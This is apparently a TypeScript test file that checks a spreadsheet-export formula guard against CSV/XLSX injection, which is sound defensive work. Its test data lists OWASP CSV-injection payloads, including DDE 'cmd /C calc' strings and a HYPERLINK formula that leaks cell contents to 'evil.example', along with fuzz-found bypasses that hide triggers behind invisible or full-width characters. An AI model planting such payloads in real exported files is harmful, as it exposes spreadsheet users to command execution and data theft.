/**
 * The formula guard sees text as a spreadsheet will (issue 20, point 6): control and zero-width
 * characters dropped, full-width forms folded (NFKC). Each bypass found by the fuzz campaign and
 * OWASP's CSV-injection payloads go into a real warehouse table, are exported through the CLI to
 * CSV and XLSX, and are read back with papaparse and exceljs: every one is text with the
 * apostrophe, none is a formula, and the original comes back when the apostrophe is removed.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { asSpreadsheetSees, guardCell, needsGuard, recoverGuardedText } from '../src/export/formula-guard.ts';
import { cli } from './helpers/run-cli.ts';

/** What the fuzz campaign slipped past the guard of the previous release. */
const BYPASSES = ['\x01=1+1', '＝1+1', '\u200b=1+1', '\ufeff+1+1', '\u0085-1+1', '\u2060＠SUM(1+1)', '＋cmd'];

/** OWASP's CSV injection list: the leading characters and the DDE payloads. */
const OWASP = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
];

/** Texts that stay as they are. */
const HARMLESS = ['Pakistan', '010121', '-1', '－1', '+12.5', "'plain apostrophe", 'a=b', ' =spaced', ''];

const HOSTILE = [...BYPASSES, ...OWASP];
const LABELS = [...HOSTILE, ...HARMLESS];

let dir = '';
let db = '';

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'corridor-formula-'));
  db = join(dir, 'scratch.db');
  const scratch = new Database(db);
  scratch.exec('create table notes (id integer primary key, label text not null, amount real)');
  const insert = scratch.prepare('insert into notes values (?, ?, ?)');
  LABELS.forEach((label, i) => {
    insert.run(i + 1, label, -(i + 0.5));
  });
  scratch.close();
});

afterAll(() => {
  if (dir !== '') rmSync(dir, { recursive: true, force: true });
});

const exportTo = (out: string, ...args: string[]) =>
  cli(['export', 'notes', ...args, '--out', out, '--db', db, '--quiet']);

describe('the rule', () => {
  it.each(HOSTILE)('guards %j and recovers it exactly', (label) => {
    expect(needsGuard(label)).toBe(true);
    expect(guardCell(label)).toBe(`'${label}`);
    expect(recoverGuardedText(guardCell(label) as string)).toBe(label);
  });

  it.each(HARMLESS)('leaves %j as it is', (label) => {
    expect(needsGuard(label)).toBe(false);
    expect(recoverGuardedText(label)).toBe(label);
  });

  it('sees text as a spreadsheet does: unseen characters dropped, full-width forms folded', () => {
    expect(asSpreadsheetSees('\x01=1+1')).toBe('=1+1');
    expect(asSpreadsheetSees('＝1+1')).toBe('=1+1');
    expect(asSpreadsheetSees('\u200b\u200d=1+1')).toBe('=1+1');
    expect(asSpreadsheetSees('＠SUM')).toBe('@SUM');
    expect(asSpreadsheetSees('\t=x')).toBe('\t=x');
  });

  it('stays reversible for texts that already start with apostrophes before a hidden trigger', () => {
    for (const label of ["'\x01=1", "''＝1", "'\u200b-x", "'－1"]) {
      expect(needsGuard(label)).toBe(true);
      expect(recoverGuardedText(guardCell(label) as string)).toBe(label);
    }
  });
});

describe('in exported files', () => {
  it('CSV: every hostile text is quoted with the apostrophe, numbers stay bare literals', async () => {
    const out = join(dir, 'csv');
    const run = await exportTo(`${out}/`);
    expect(run.code, run.stderr).toBe(0);
    const text = readFileSync(join(out, 'notes.csv'), 'utf8');
    const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const rows = parsed.data.slice(1);
    expect(rows.map((r) => r[1])).toEqual([...HOSTILE.map((l) => `'${l}`), ...HARMLESS]);
    for (const label of HOSTILE) expect(text).toContain(`"'${label.replaceAll('"', '""')}"`);
    expect(rows.map((r) => recoverGuardedText(r[1]!))).toEqual(LABELS);
    // The amount column is negative everywhere, and numbers are never guarded.
    expect(rows.map((r) => r[2])).toEqual(LABELS.map((_, i) => String(-(i + 0.5))));
  });

  it('XLSX: every hostile text is a string cell with the apostrophe, never a formula', async () => {
    const out = join(dir, 'xlsx');
    const run = await exportTo(`${out}/`, '--format', 'xlsx');
    expect(run.code, run.stderr).toBe(0);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(join(out, 'notes.xlsx'));
    const sheet = workbook.worksheets[0]!;
    const labels: unknown[] = [];
    const amounts: unknown[] = [];
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
      labels.push(row.getCell(2).value ?? '');
      amounts.push(row.getCell(3).value);
    });
    expect(labels.every((l) => typeof l === 'string')).toBe(true);
    // XML holds no control characters nor carriage returns: the writer leaves the first out and
    // writes the second as a line feed. What is left is guarded, and recovers to that text.
    const xmlHolds = (c: string) => c.charCodeAt(0) >= 0x20 || c === '\t' || c === '\n';
    const asWritten = (l: string) => [...l.replace(/\r/g, '\n')].filter(xmlHolds).join('');
    HOSTILE.forEach((label, i) => {
      const cell = labels[i] as string;
      if (label.startsWith('\r')) expect(cell).toBe(asWritten(label));
      else expect(cell).toBe(`'${asWritten(label)}`);
      expect(asSpreadsheetSees(cell).startsWith("'")).toBe(!label.startsWith('\r'));
    });
    expect(labels.map((l) => recoverGuardedText(l as string))).toEqual(LABELS.map(asWritten));
    expect(amounts).toEqual(LABELS.map((_, i) => -(i + 0.5)));
  });
});
